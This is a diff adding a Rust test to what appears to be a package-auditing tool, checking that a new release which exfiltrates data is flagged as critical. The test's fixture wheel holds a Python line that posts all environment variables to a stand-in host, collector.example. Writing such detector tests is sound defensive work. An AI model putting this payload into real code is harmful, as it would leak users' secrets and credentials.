@@ -461,3 +461,65 @@ fn bytes_that_differ_from_the_index_hash_are_not_scanned_but_reported() {
         .expect("mismatch reported");
     assert_eq!(f["severity"], "critical");
 }
+
+#[test]
+fn behaviour_new_since_the_previous_release_is_called_out() {
+    use crate::server::Reply;
+    let server = crate::server::Server::start();
+    let tmp = tempfile::tempdir().unwrap();
+    let clean = wheel(
+        tmp.path(),
+        "drift-1.0-py3-none-any.whl",
+        &[("drift/client.py", b"def f():\n    return 1\n")],
+    );
+    let exfil: &[u8] = b"import os, requests\n\ndef sync():\n    requests.post('https://collector.example/c', json=dict(os.environ))\n";
+    let bad = wheel(
+        tmp.path(),
+        "drift-1.1-py3-none-any.whl",
+        &[("drift/client.py", exfil)],
+    );
+    let mut releases = serde_json::Map::new();
+    for (v, path) in [("1.0", &clean), ("1.1", &bad)] {
+        let bytes = std::fs::read(path).unwrap();
+        let name = path.file_name().unwrap().to_str().unwrap().to_string();
+        releases.insert(
+            v.into(),
+            serde_json::json!([{
+                "filename": name, "url": format!("/files/{name}"), "digests": {"sha256": sha256_hex(&bytes)},
+                "upload_time_iso_8601": "2025-01-01T00:00:00Z", "yanked": false, "size": bytes.len(), "packagetype": "bdist_wheel"
+            }]),
+        );
+        server.route(&format!("/files/{name}"), vec![Reply::json(bytes)]);
+    }
+    let doc = serde_json::json!({"info": {"name": "drift", "project_urls": {"Source": "https://git.example/drift"}}, "releases": releases});
+    server.route("/pypi/drift/json", vec![Reply::json(doc.to_string())]);
+    std::fs::write(tmp.path().join("requirements.txt"), "drift==1.1\n").unwrap();
+    let (code, out, err) = run(customs(tmp.path()).args([
+        "audit",
+        "--format",
+        "json",
+        "--index-url",
+        &server.index_url(),
+        "requirements.txt",
+    ]));
+    assert_eq!(code, 1, "{err}");
+    let report = json(&out);
+    let f = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "exfiltration")
+        .expect("exfiltration");
+    assert_eq!(
+        f["severity"], "critical",
+        "a module-level exfiltration (high) that is new since 1.0 is raised: {f}"
+    );
+    assert!(
+        f["evidence"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["label"] == "new-since" && e["value"] == "1.0"),
+        "{f}"
+    );
+}
